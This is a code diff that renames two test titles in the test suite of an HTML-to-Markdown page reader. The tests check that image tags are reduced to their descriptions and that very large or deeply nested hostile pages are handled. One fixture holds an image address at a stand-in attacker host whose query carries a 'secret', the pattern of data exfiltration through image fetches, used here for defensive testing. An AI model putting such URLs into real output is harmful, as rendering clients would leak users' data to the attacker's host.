@@ -22,7 +22,7 @@ describe('a page as Markdown', () => {
     expect(text).toBe('[up](https://example.com/up) [other](https://other.example/x) script data')
   })
 
-  test('has of an image its description alone, so that no address of a page is fetched by whoever shows it', () => {
+  test('keeps only the description of an image, so that clients fetch no address of the page', () => {
     expect(
       read('<p>see <img src="https://evil.example/?q=secret" alt="a  chart"> and <img src=x></p>').text,
     ).toBe('see a chart and')
@@ -50,7 +50,7 @@ describe('a hostile page', () => {
     expect(read(`<body>${'<div>'.repeat(5_000)}deep`).text).toBe('deep')
   })
 
-  test('of too many tags is its beginning', () => {
+  test('of too many tags is truncated', () => {
     const { text } = read('<div>a</div>'.repeat(100_000))
     expect(text.split('a').length).toBe(20_001)
   }, 60_000)
